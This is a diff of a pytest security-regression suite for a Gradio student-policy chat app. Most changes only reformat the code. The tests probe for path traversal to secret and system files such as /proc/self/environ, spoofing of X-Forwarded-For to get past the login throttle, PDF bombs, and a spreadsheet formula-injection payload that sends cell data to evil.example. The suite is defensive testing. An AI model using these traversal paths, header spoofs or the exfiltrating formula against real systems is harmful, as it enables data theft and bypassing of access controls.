@@ -19,7 +19,7 @@ from pathlib import Path
 import httpx
 import pytest
 
-from scenarios.bench_http import ask_fn_index
+from scenarios.bench.concurrency_http import ask_fn_index
 from tests.conftest import REPO
 from tests.ui.server import DEMO_PASSWORD, call, login, running_app
 
@@ -51,8 +51,14 @@ def _targets(home: Path) -> list[Path]:
     planted = home / "demo_passwords.txt"
     if not planted.exists():
         planted.write_text(f"student {PLANTED}\n", encoding="utf-8")
-    return [planted, home / "secret.key", home / "accounts.json", Path("/proc/self/environ"), REPO / "README.md",
-            home / "uploads" / ".." / "demo_passwords.txt"]
+    return [
+        planted,
+        home / "secret.key",
+        home / "accounts.json",
+        Path("/proc/self/environ"),
+        REPO / "README.md",
+        home / "uploads" / ".." / "demo_passwords.txt",
+    ]
 
 
 def _post(client: httpx.Client, url: str, body: dict, content_type: str | None) -> httpx.Response:
@@ -77,8 +83,13 @@ def _through_run(client, base, api_name, data, content_type) -> str:
 
 def _through_queue(client, base, api_name, data, content_type) -> str:
     session = uuid.uuid4().hex[:11]
-    body = {"data": data, "fn_index": ask_fn_index(client, base, api_name), "session_hash": session,
-            "event_data": None, "trigger_id": None}
+    body = {
+        "data": data,
+        "fn_index": ask_fn_index(client, base, api_name),
+        "session_hash": session,
+        "event_data": None,
+        "trigger_id": None,
+    }
     joined = _post(client, f"{base}/gradio_api/queue/join", body, content_type)
     if joined.status_code != 200:
         return joined.text
@@ -108,8 +119,13 @@ def _served(client: httpx.Client, base: str, text: str) -> str:
 
 
 def _secrets(home: Path) -> list[str]:
-    return [(home / "secret.key").read_text(encoding="utf-8").strip(), "$argon2id$", f"={DEMO_PASSWORD}",
-            PLANTED, "cited-or-silent core"]  # the last: a phrase of README.md
+    return [
+        (home / "secret.key").read_text(encoding="utf-8").strip(),
+        "$argon2id$",
+        f"={DEMO_PASSWORD}",
+        PLANTED,
+        "cited-or-silent core",
+    ]  # the last: a phrase of README.md
 
 
 def _copies_in_uploads(home: Path, secrets: list[str]) -> list[str]:
@@ -137,8 +153,9 @@ def test_f1_no_route_or_content_type_copies_a_server_file_into_a_claim(app):
         for route in ROUTES:
             for spelling in SPELLINGS:
                 for target in _targets(home):
-                    leaked += _leaks(client, base, secrets, route, "file_claim", [CLAIM, "", _file_data(target)],
-                                     spelling)
+                    leaked += _leaks(
+                        client, base, secrets, route, "file_claim", [CLAIM, "", _file_data(target)], spelling
+                    )
         _, mine = call(client, base, "my_claims")
     tickets = (home / "tickets.json").read_text(encoding="utf-8") if (home / "tickets.json").exists() else ""
     assert leaked == []
@@ -165,8 +182,9 @@ def test_f1_the_chat_takes_no_file_from_the_client(app):
             for spelling in SPELLINGS[:3]:
                 for target in _targets(home)[:5]:
                     for history in _histories_with(target):
-                        leaked += _leaks(client, base, secrets, route, "ask",
-                                         ["What is the revaluation fee?", history, ""], spelling)
+                        leaked += _leaks(
+                            client, base, secrets, route, "ask", ["What is the revaluation fee?", history, ""], spelling
+                        )
         # the chat itself still works, and shows the caller's own stored conversation
         event, data = call(client, base, "ask", "What is the revaluation fee?", "")
     assert leaked == []
@@ -184,6 +202,7 @@ def test_f1_state_app_and_system_files_are_never_served(app):
 
 
 # -- f2. one claim's pasted proof does not hold the server ----------------------------------------
+
 
 def test_f2_a_pathological_proof_neither_stalls_its_claim_nor_other_users(app):
     base, _ = app
@@ -214,6 +233,7 @@ def test_f2_a_pathological_proof_neither_stalls_its_claim_nor_other_users(app):
 
 # -- f3. an untrusted PDF is read with limits ------------------------------------------------------
 
+
 def test_f3_a_pdf_proof_too_costly_to_read_is_refused_plainly_and_at_once(app):
     from tests.documents_fixtures import make_xobject_bomb
 
@@ -233,6 +253,7 @@ def test_f3_a_pdf_proof_too_costly_to_read_is_refused_plainly_and_at_once(app):
 
 # -- f6. simultaneous guesses are counted before their passwords are checked -----------------------
 
+
 def test_f6_simultaneous_wrong_passwords_get_no_more_checks_than_the_limit(app):
     base, _ = app
     start = threading.Barrier(24)
@@ -251,11 +272,14 @@ def test_f6_simultaneous_wrong_passwords_get_no_more_checks_than_the_limit(app):
 
 # -- f7, f8. what a reviewer's Insights export holds of other users' questions ---------------------
 
+
 def test_f7_f8_the_gaps_export_holds_no_formula_and_no_obvious_personal_data(app):
     base, _ = app
-    asked = ['=HYPERLINK("https://evil.example/?"&A1,"fee") where can students park their cars?',
-             "My name is Priya Sharma, mail priya.sharma@example.edu: is there a parking permit for student cars?",
-             "I am CS21B1034, call +91 98765 43210: can students park cars overnight?"]
+    asked = [
+        '=HYPERLINK("https://evil.example/?"&A1,"fee") where can students park their cars?',
+        "My name is Priya Sharma, mail priya.sharma@example.edu: is there a parking permit for student cars?",
+        "I am CS21B1034, call +91 98765 43210: can students park cars overnight?",
+    ]
     with httpx.Client(timeout=120) as student:
         login(student, base, "student")
         for question in asked:
@@ -275,6 +299,7 @@ def test_f7_f8_the_gaps_export_holds_no_formula_and_no_obvious_personal_data(app
 
 
 # -- f8. users are told their unanswered questions are read ----------------------------------------
+
 
 def test_f8_the_chat_says_that_questions_are_read_to_improve_the_policies(app):
     base, _ = app
@@ -299,14 +324,19 @@ def _login_via_proxy(base: str, username: str, password: str, forwarded_for: str
     """A login as Hugging Face's proxy passes it on: the client's own X-Forwarded-For (anything it
     likes), with the address the proxy saw appended."""
     with httpx.Client(timeout=120) as client:
-        return client.post(base + "/login", data={"username": username, "password": password},
-                           headers={"X-Forwarded-For": forwarded_for}, follow_redirects=False)
+        return client.post(
+            base + "/login",
+            data={"username": username, "password": password},
+            headers={"X-Forwarded-For": forwarded_for},
+            follow_redirects=False,
+        )
 
 
 def test_f4_a_client_cannot_choose_its_address_for_the_throttle(space):
     base, _ = space
-    answers = [_login_via_proxy(base, f"sprayed{n}", "wrong-guess-123", f"10.66.{n}.1, 203.0.113.7").text
-               for n in range(34)]
+    answers = [
+        _login_via_proxy(base, f"sprayed{n}", "wrong-guess-123", f"10.66.{n}.1, 203.0.113.7").text for n in range(34)
+    ]
     checked = sum("Wrong username or password" in a for a in answers)
     assert checked == 30, checked  # before: every fresh address was a new client, all 34 checked
     assert "from your network" in answers[-1]
@@ -330,6 +360,7 @@ def test_f10_only_this_space_and_huggingface_may_frame_the_app(space):
 
 
 # -- f5. emptying the audit log is caught (last: it empties this app's log) -------------------------
+
 
 def test_f5_the_admins_verify_button_catches_an_emptied_audit_log(app):
     base, home = app
